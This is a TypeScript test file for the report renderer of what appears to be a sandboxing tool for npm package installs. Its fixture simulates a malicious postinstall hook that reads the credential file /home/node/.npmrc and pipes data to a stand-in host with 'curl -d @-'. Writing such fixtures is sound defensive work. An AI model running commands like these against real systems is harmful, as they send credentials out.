import type { PackageAnalysis, TraceEvent } from '@safe-install/schema';
import { renderAnalysis, renderAnalysisTotals } from './analysis.js';

const exec = (id: string, pid: number, ppid: number, path: string, argv: string[]): TraceEvent =>
  ({ id, ts: 1, source: 'tracer', pid, ppid, type: 'process', action: 'exec', path, argv, cwd: '/', package: { name: 'p', version: '1' } }) as TraceEvent;

const analysis: PackageAnalysis = {
  version: 1,
  spec: './p.tgz',
  package: { name: 'p', version: '1', ecosystem: 'npm' },
  createdAt: '2026-01-01T00:00:00.000Z',
  risk: 'critical',
  phases: [
    {
      phase: 'install', status: 'completed', command: ['npm', 'ci'], exitCode: 0, startedAt: '2026-01-01T00:00:00.000Z', endedAt: '2026-01-01T00:00:02.000Z', stdout: '', stderr: '',
      events: [
        exec('t1', 10, 1, '/usr/local/libexec/npm-lifecycle', ['/usr/local/libexec/npm-lifecycle', '--run', 'p', '1', 'postinstall', 'node x.js']),
        exec('t2', 11, 10, '/bin/sh', ['sh', '-c', 'node x.js']),
        exec('t3', 12, 11, '/usr/local/bin/node', ['node', 'x.js']),
        exec('t4', 13, 12, '/usr/bin/curl', ['curl', '-d', '@-', 'http://evil.invalid/\u001b[31m']),
        { id: 't5', ts: 1, source: 'tracer', pid: 12, ppid: 11, type: 'file', action: 'open', path: '/home/node/.npmrc', package: { name: 'p', version: '1' } } as TraceEvent,
        { id: 'g1', ts: 1, source: 'gateway', pid: 0, ppid: 0, type: 'dns', name: 'evil.invalid', qtype: 'A', answered: 'sinked' } as TraceEvent,
      ],
    },
    { phase: 'import', status: 'skipped', command: [], exitCode: null, startedAt: '', endedAt: '', stdout: '', stderr: '', events: [] },
  ],
  findings: [{ ruleId: 'decoy-credential-read', severity: 'critical', lifecycle: 'postinstall', message: 'read the credential file', evidence: ['t5'] }],
  artefacts: [{ kind: 'written-file', path: 'written/001-x', sha256: 'a'.repeat(64), bytes: 3, description: '/tmp/x' }, { kind: 'sink-request', path: 'sink/001-evil.invalid.body', sha256: 'b'.repeat(64), bytes: 3 }],
};

describe('renderAnalysis', () => {
  const text = renderAnalysis(analysis).map((line) => line.text).join('\n');
  it('names risk, phases and top behaviours, never the script shell', () => {
    expect(text).toContain('p@1 (./p.tgz): risk critical — 1 finding');
    expect(text).toContain('phases: install completed (2.0 s), import skipped');
    expect(text).toMatch(/commands run: node x\.js, curl -d @- http:\/\/evil\.invalid\/\\x1b\[31m$/m);
    expect(text).not.toContain('npm-lifecycle');
    expect(text).toContain('hosts contacted: evil.invalid');
    expect(text).toContain('decoys read: /home/node/.npmrc');
    expect(text).toContain('files written outside the package: /tmp/x');
    expect(text).toContain('sinked request bodies kept: 1');
    expect(text).toContain('critical decoy-credential-read in postinstall');
  });
  it('totals the batch', () => {
    expect(renderAnalysisTotals({ analysed: 3, failed: 1, skipped: 2, byRisk: { none: 2, high: 1 }, ms: 1500 }).map((line) => line.text).join('')).toBe('analyze: 3 packages analysed (risk: 2 none, 1 high), 1 could not be analysed, 2 skipped (already analysed) in 1.5 s');
  });
});
